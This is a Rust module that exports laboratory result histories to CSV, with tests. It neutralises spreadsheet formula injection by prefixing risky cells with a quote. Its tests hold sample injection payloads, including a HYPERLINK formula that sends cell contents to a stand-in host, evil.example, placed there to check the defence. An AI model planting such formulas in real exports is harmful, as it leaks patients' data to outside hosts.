//! Exports of a normalised history, from the same data the screen shows.
//!
//! - [`csv`]: one row per result (a report that quotes a result again is one more source of
//!   that row, not a row), values as shown with the laboratory's precision beside the original
//!   value, unit, code and laboratory; in the French form a French spreadsheet opens (`;`,
//!   decimal comma, UTF-8 with a byte-order mark) or the plain RFC 4180 form.
//! - the FHIR R4 resources are in [`crate::fhir`].
//!
//! Numbers are never re-typed: a value is the laboratory's literal, or, for a value computed
//! by a conversion (factor, molar mass), the literal the screen shows ([`shown_value`]).

use std::sync::Arc;

use crate::cda::Decimal;
use crate::normalise::{DocumentEntry, History, Point, PointStatus, Provenance};
use crate::units::Rule;

/// Whether a conversion computed new digits (factor, molar mass, HbA1c equation), which are
/// shown rounded to the analyte's decimals; the other rules keep the laboratory's digits.
fn computed(rule: Option<&Rule>) -> bool {
    matches!(rule, Some(Rule::Factor | Rule::MolarMass | Rule::HbA1cMasterEquation))
}

/// The value as exported: the laboratory's literal (moved by a power of ten at most), or the
/// displayed rounding of a computed value (a conversion or a derived eGFR) — never the 12
/// digits of a binary computation.
pub fn shown_value(p: &Point) -> Option<Arc<str>> {
    let value = p.value.as_ref()?;
    let rule = p.sources.first().and_then(|s| s.rule.as_ref());
    if p.derived || computed(rule) { p.display.clone() } else { Some(value.shared()) }
}

/// A reference bound of `p` as exported, with the same rule as its value.
pub fn shown_bound(p: &Point, bound: &Decimal, decimals: usize) -> Arc<str> {
    let rule = p.sources.first().and_then(|s| s.rule.as_ref());
    if computed(rule) { bound.display(decimals) } else { bound.shared() }
}

/// The CSV dialect.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvFormat {
    /// What a French spreadsheet opens as columns: `;` separator, decimal comma, UTF-8 with BOM.
    French,
    /// RFC 4180: `,` separator, decimal point, UTF-8 without BOM.
    Rfc4180,
}

/// A cell: text is protected against formula injection; numbers are data.
enum Cell<'a> {
    Text(&'a str),
    Number(Option<&'a str>),
}

/// OWASP's rule for CSV injection: a text cell a spreadsheet would read as a formula (first
/// character `=`, `+`, `-`, `@`, tab or carriage return) gets a leading `'`. So does a cell in
/// which a separator of either form (`,` or `;`) is followed by one: a file opened with the
/// other separator than it was written with (a French spreadsheet reading the RFC 4180 form)
/// would start a cell there.
fn neutralised(text: &str) -> std::borrow::Cow<'_, str> {
    const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
    let after_separator =
        text.match_indices([',', ';']).any(|(at, _)| text[at + 1..].trim_start_matches(' ').starts_with(FORMULA));
    if text.starts_with(FORMULA) || after_separator { format!("'{text}").into() } else { text.into() }
}

/// A decimal literal as a number cell: only a plain decimal (never text that looks like one).
fn number_cell(literal: &str, format: CsvFormat) -> Option<String> {
    Decimal::parse(literal).filter(|d| !d.as_str().contains(['e', 'E']) && !literal.contains(',')).map(|d| match format {
        CsvFormat::French => d.as_str().replace('.', ","),
        CsvFormat::Rfc4180 => d.as_str().to_string(),
    })
}

struct Writer {
    out: String,
    format: CsvFormat,
}

impl Writer {
    fn separator(&self) -> char {
        match self.format {
            CsvFormat::French => ';',
            CsvFormat::Rfc4180 => ',',
        }
    }

    fn field(&mut self, value: &str) {
        if value.contains([self.separator(), '"', '\n', '\r']) {
            self.out.push('"');
            self.out.push_str(&value.replace('"', "\"\""));
            self.out.push('"');
        } else {
            self.out.push_str(value);
        }
    }

    fn row(&mut self, cells: &[Cell<'_>]) {
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                let sep = self.separator();
                self.out.push(sep);
            }
            match cell {
                Cell::Text(t) => {
                    let t = neutralised(t);
                    self.field(&t);
                }
                // A value that is not a plain decimal is kept, as protected text.
                Cell::Number(Some(n)) => match number_cell(n, self.format) {
                    Some(n) => self.out.push_str(&n),
                    None => {
                        let t = neutralised(n);
                        self.field(&t);
                    }
                },
                Cell::Number(None) => {}
            }
        }
        self.out.push_str("\r\n");
    }
}

const HEADER_FR: [&str; 20] = [
    "date",
    "analyse",
    "chapitre",
    "comparateur",
    "valeur",
    "unité",
    "résultat texte",
    "interprétation",
    "interprétation calculée",
    "référence basse",
    "référence haute",
    "laboratoire",
    "calculé par Bioviewer",
    "valeur d'origine",
    "unité d'origine",
    "code",
    "système du code",
    "conversion",
    "documents",
    "provenance",
];

const HEADER_EN: [&str; 20] = [
    "date",
    "test",
    "chapter",
    "comparator",
    "value",
    "unit",
    "text result",
    "interpretation",
    "interpretation computed",
    "reference low",
    "reference high",
    "laboratory",
    "computed by Bioviewer",
    "original value",
    "original unit",
    "code",
    "code system",
    "conversion",
    "documents",
    "provenance",
];

/// The collection time as a spreadsheet reads a date (`2023-12-04 07:45`), local time as the
/// laboratory wrote it (its offset left out, whatever its sign).
fn date_cell(p: &Point) -> String {
    let Some(t) = p.time else { return String::new() };
    let mut cell = t.date_string();
    if let (Some(_), Some(hour)) = (t.day, t.hour) {
        cell.push_str(&format!(" {hour:02}:{:02}", t.minute.unwrap_or(0)));
        if let Some(second) = t.second {
            cell.push_str(&format!(":{second:02}"));
        }
    }
    cell
}

/// The history as CSV: one row per result, series first (catalogue order), then other results.
/// `french` chooses the header's language.
pub fn csv(history: &History, format: CsvFormat, french: bool) -> String {
    let mut w = Writer { out: String::new(), format };
    if format == CsvFormat::French {
        w.out.push('\u{feff}');
    }
    let header = if french { HEADER_FR } else { HEADER_EN };
    w.row(&header.map(Cell::Text));
    let documents: std::collections::HashMap<&str, &DocumentEntry> = history.documents.iter().map(|d| (d.id.as_str(), d)).collect();
    let yes = if french { "oui" } else { "yes" };
    let point_row = |w: &mut Writer, name: &str, chapter: &str, decimals: usize, p: &Point| {
        let source = p.sources.first();
        let value = shown_value(p);
        let low = p.reference_low.as_ref().map(|b| shown_bound(p, b, decimals));
        let high = p.reference_high.as_ref().map(|b| shown_bound(p, b, decimals));
        // A value Bioviewer computed (eGFR) names its equation here; its original value, unit
        // and code are those of the creatinine it was computed from, and no laboratory.
        let conversion = if p.derived {
            p.method.clone().unwrap_or_default()
        } else {
            source.and_then(|s| s.rule.as_ref().map(ToString::to_string).or_else(|| s.not_converted.clone())).unwrap_or_default()
        };
        let mut docs: Vec<&str> = p.sources.iter().map(|s| &*s.document).collect();
        docs.dedup();
        let docs = docs.join(" ");
        // The least trusted source: a result any upload gave is marked uploaded.
        let provenance = p
            .sources
            .iter()
            .filter_map(|s| documents.get(&*s.document))
            .map(|d| d.provenance)
            .min_by_key(|p| p.rank())
            .map(|p| match (p, french) {
                (Provenance::Dmp, _) => "dmp",
                (Provenance::Operator, true) => "exploitant",
                (Provenance::Operator, false) => "operator",
                (Provenance::Upload, true) => "déposé par un utilisateur",
                (Provenance::Upload, false) => "uploaded by a user",
            })
            .unwrap_or("");
        let text = match p.status {
            PointStatus::NotPerformed => Some(if french { "non réalisé" } else { "not performed" }),
            PointStatus::Completed => p.text.as_deref(),
        };
        let original = source.and_then(|s| s.original_value.as_deref());
        // An original value written with its comparator (`<5`) is text; a plain one a number.
        let original_cell = match original {
            Some(o) if Decimal::parse(o).is_some() => Cell::Number(Some(o)),
            Some(o) => Cell::Text(o),
            None => Cell::Text(""),
        };
        let date = date_cell(p);
        // A catalogue (UCUM) unit as people read it (`µmol/L`, `mUI/L`); a unit the laboratory
        // wrote and Bioviewer could not convert, as written.
        let unit = match p.unit.as_deref() {
            Some(u) if p.in_display_unit => Some(crate::units::display_unit(u, french)).filter(|d| !d.is_empty()).unwrap_or_else(|| u.to_string()),
            Some(u) => u.to_string(),
            None => String::new(),
        };
        w.row(&[
            Cell::Text(&date),
            Cell::Text(name),
            Cell::Text(chapter),
            Cell::Text(p.comparator.map(|c| c.ascii()).unwrap_or("")),
            Cell::Number(value.as_deref()),
            Cell::Text(&unit),
            Cell::Text(text.unwrap_or("")),
            Cell::Text(p.flag.as_ref().map(|f| &*f.code).unwrap_or("")),
            Cell::Text(if p.flag.as_ref().is_some_and(|f| f.computed) { yes } else { "" }),
            Cell::Number(low.as_deref()),
            Cell::Number(high.as_deref()),
            Cell::Text(p.laboratory.as_deref().filter(|_| !p.derived).unwrap_or("")),
            Cell::Text(if p.derived { yes } else { "" }),
            original_cell,
            Cell::Text(source.and_then(|s| s.original_unit.as_deref()).unwrap_or("")),
            Cell::Text(source.and_then(|s| s.code.as_deref()).unwrap_or("")),
            Cell::Text(match source.and_then(|s| s.code_system.as_deref()) {
                Some(crate::cda::oid::LOINC) => "LOINC",
                Some(other) => other,
                None => "",
            }),
            Cell::Text(&conversion),
            Cell::Text(&docs),
            Cell::Text(provenance),
        ]);
    };
    for s in &history.series {
        let name = if french { &s.name_fr } else { &s.name_en };
        for p in &s.points {
            point_row(&mut w, name, &s.chapter, s.decimals, p);
        }
    }
    for o in &history.other_results {
        for p in &o.points {
            point_row(&mut w, o.label.as_deref().or(o.code.as_deref()).unwrap_or(""), "other", 0, p);
        }
    }
    w.out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalogue::{Catalogue, EMBEDDED_TRANSCODING, Transcoding};
    use crate::normalise::{InputDocument, Options, Provenance, normalise};

    fn corpus_history() -> History {
        let reports = [
            crate::cda::tests::corpus("BIO-CR-BIO_2024.01_TSH_1.xml"),
            crate::cda::tests::corpus("BIO-CR-BIO_2024.01_TSH_2.xml"),
            crate::cda::tests::corpus("BIO-CR-BIO_2024.01_CRP_non_LOINC.xml"),
        ];
        let catalogue = Catalogue::embedded();
        let transcoding = Transcoding::from_tsv(EMBEDDED_TRANSCODING, &catalogue).unwrap();
        let inputs: Vec<_> =
            reports.iter().enumerate().map(|(i, r)| InputDocument { id: format!("doc{i}"), report: Ok(r), provenance: Provenance::Operator }).collect();
        normalise(&inputs, &catalogue, &transcoding, &Options::default())
    }

    fn rows(text: &str) -> Vec<&str> {
        text.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()).collect()
    }

    fn demo_history() -> History {
        let end = crate::cda::CdaTime::parse_hl7("20261101").unwrap().epoch_seconds() / 86_400;
        let docs = crate::demo::generate(2, 2, 5, end);
        let reports: Vec<_> = docs
            .iter()
            .filter(|d| d.patient == docs[0].patient)
            .map(|d| crate::cda::parse(crate::cda::writer::write_cr_bio(&d.report).as_bytes()).unwrap())
            .collect();
        let catalogue = Catalogue::embedded();
        let transcoding = Transcoding::from_tsv(EMBEDDED_TRANSCODING, &catalogue).unwrap();
        let inputs: Vec<_> =
            reports.iter().enumerate().map(|(i, r)| InputDocument { id: format!("d{i}"), report: Ok(r), provenance: Provenance::Dmp }).collect();
        normalise(&inputs, &catalogue, &transcoding, &Options::default())
    }

    #[test]
    fn one_row_per_result_whatever_the_reports_that_quote_it() {
        let history = demo_history();
        let points = history.series.iter().map(|s| s.points.len()).sum::<usize>() + history.other_results.iter().map(|o| o.points.len()).sum::<usize>();
        let sources: usize = history.series.iter().flat_map(|s| &s.points).map(|p| p.sources.len()).sum();
        assert!(sources > points, "the history has results quoted by several reports");
        for format in [CsvFormat::French, CsvFormat::Rfc4180] {
            let text = csv(&history, format, true);
            assert_eq!(rows(&text).len(), 1 + points);
        }
    }

    #[test]
    fn french_form_opens_in_a_french_spreadsheet() {
        let text = csv(&corpus_history(), CsvFormat::French, true);
        assert!(text.starts_with('\u{feff}'), "UTF-8 byte-order mark");
        let lines = rows(&text);
        assert!(lines[0].starts_with("date;analyse;chapitre;comparateur;valeur;unité;"), "{}", lines[0]);
        let crp = lines.iter().find(|l| l.contains(";<=;")).unwrap();
        assert!(crp.contains(";<=;1,0;mg/L;"), "decimal comma, the laboratory's digits: {crp}");
        let tsh = lines.iter().find(|l| l.contains(";TSH;")).unwrap();
        assert!(tsh.contains(";doc1;") || tsh.contains(";doc0;"), "{tsh}");
        let plain = csv(&corpus_history(), CsvFormat::Rfc4180, false);
        assert!(!plain.starts_with('\u{feff}'));
        let crp = rows(&plain).into_iter().find(|l| l.contains(",<=,")).unwrap();
        assert!(crp.contains(",<=,1.0,mg/L,"), "{crp}");
        assert!(rows(&plain)[0].starts_with("date,test,chapter,"));
    }

    #[test]
    fn formula_like_text_is_neutralised_and_numbers_stay_numbers() {
        let mut history = corpus_history();
        let p = &mut history.series[0].points[0];
        p.laboratory = Some(Arc::from("=HYPERLINK(\"http://x\";\"y\")"));
        p.text = Some("@SUM(1+1)".into());
        p.value = Decimal::parse("-1.5");
        p.sources[0].rule = Some(Rule::Identity);
        let text = csv(&history, CsvFormat::French, true);
        let line = rows(&text)[1];
        assert!(line.contains("\"'=HYPERLINK(\"\"http://x\"\";\"\"y\"\")\""), "{line}");
        assert!(line.contains(";'@SUM(1+1);"), "{line}");
        assert!(line.contains(";-1,5;"), "a negative number is data: {line}");
        for bad in ["=1", "+1", "-x", "@a", "\tx", "\rx"] {
            assert!(neutralised(bad).starts_with('\''), "{bad:?}");
        }
    }

    #[test]
    fn dates_are_local_times_a_spreadsheet_reads_whatever_the_offset() {
        let mut p = corpus_history().series[0].points[0].clone();
        for (hl7, cell) in [
            ("202312040745-0500", "2023-12-04 07:45"),
            ("20231204074512+0100", "2023-12-04 07:45:12"),
            ("20231204", "2023-12-04"),
        ] {
            p.time = crate::cda::CdaTime::parse_hl7(hl7).ok();
            assert_eq!(date_cell(&p), cell);
        }
    }

    #[test]
    fn converted_values_are_shown_rounded_beside_the_original() {
        let history = demo_history();
        let text = csv(&history, CsvFormat::Rfc4180, false);
        let mut molar = 0;
        for line in rows(&text).into_iter().skip(1).filter(|l| l.contains(",molar_mass,")) {
            let value = line.split(',').nth(4).unwrap();
            assert!(value.split_once('.').is_none_or(|(_, f)| f.len() <= 2), "{line}");
            molar += 1;
        }
        assert!(molar > 0);
        // An eGFR Bioviewer computed: its equation, no laboratory, the creatinine as its origin.
        let egfr = rows(&text).into_iter().find(|l| l.contains(",eGFR (CKD-EPI 2021),")).unwrap().to_string();
        let cells: Vec<&str> = egfr.split(',').collect();
        assert_eq!((cells[11], cells[12], cells[17]), ("", "yes", "CKD-EPI 2021"), "{egfr}");
        assert!(cells[15] == "14682-9" || cells[15] == "2160-0", "{egfr}");
    }

    #[test]
    fn a_formula_after_either_separator_is_neutralised_too() {
        assert_eq!(neutralised("a;=HYPERLINK(\"http://evil.example\")"), "'a;=HYPERLINK(\"http://evil.example\")");
        assert_eq!(neutralised("a, =1+1"), "'a, =1+1");
        assert_eq!(neutralised("Hémoglobine, sang total"), "Hémoglobine, sang total");
    }

    #[test]
    fn csv_injection_a_hyperlink_formula_from_a_document_is_written_as_text() {
        use crate::cda::model::{Code, Quantity, Value};
        const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez\")";
        let mut report = crate::demo::generate(1, 1, 7, 20_000).remove(0).report;
        report.header.laboratory.as_mut().expect("a laboratory").name = Some(FORMULA.to_string());
        // A measured value below zero (a base excess, say) is data, not a formula.
        let negative = report.observations.iter().position(|o| matches!(o.value, Some(Value::Quantity(_)))).expect("a quantity");
        if let Some(Value::Quantity(q)) = &mut report.observations[negative].value {
            *q = Quantity { value: crate::cda::model::Decimal::parse("-2.5").unwrap(), unit: q.unit.clone() };
        }
        // A text result, and the label of a result mapped to no analyte, both formulas.
        let mut text = report.observations[negative].clone();
        text.code = Code { code: Some("X-LOCAL-1".into()), system: Some("1.2.250.1.2.3.4".into()), display: Some(format!("@SUM(1+1){FORMULA}")), ..Code::default() };
        text.value = Some(Value::Text { text: format!("+{FORMULA}") });
        text.index = report.observations.len();
        text.previous_of = None;
        report.observations.push(text);
        let written = crate::cda::writer::write_cr_bio(&report);
        let parsed = crate::cda::parse(written.as_bytes()).expect("the generated document reads back");
        let catalogue = Catalogue::embedded();
        let transcoding = Transcoding::from_tsv(EMBEDDED_TRANSCODING, &catalogue).unwrap();
        let history = normalise(&[InputDocument { id: "d0".into(), report: Ok(&parsed), provenance: Provenance::Operator }], &catalogue, &transcoding, &Options::default());
        let out = csv(&history, CsvFormat::Rfc4180, false);
        // Every cell: none a spreadsheet would run.
        let mut cells = Vec::new();
        for line in out.split("\r\n").filter(|l| !l.is_empty()) {
            let (mut cell, mut quoted, mut chars) = (String::new(), false, line.chars().peekable());
            while let Some(c) = chars.next() {
                match c {
                    '"' if quoted && chars.peek() == Some(&'"') => {
                        chars.next();
                        cell.push('"');
                    }
                    '"' => quoted = !quoted,
                    ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                    c => cell.push(c),
                }
            }
            cells.push(cell);
        }
        for cell in &cells {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(), "a formula cell: {cell}");
        }
        assert!(cells.iter().any(|c| c == &format!("'{FORMULA}")), "the laboratory kept, as text: {out}");
        assert!(cells.iter().any(|c| c == &format!("'+{FORMULA}")), "the text result kept, as text");
        assert!(cells.iter().any(|c| c.starts_with("'@SUM(1+1)")), "the label kept, as text");
        assert!(out.contains(",-2.5,"), "a negative number stays a number");
    }
}
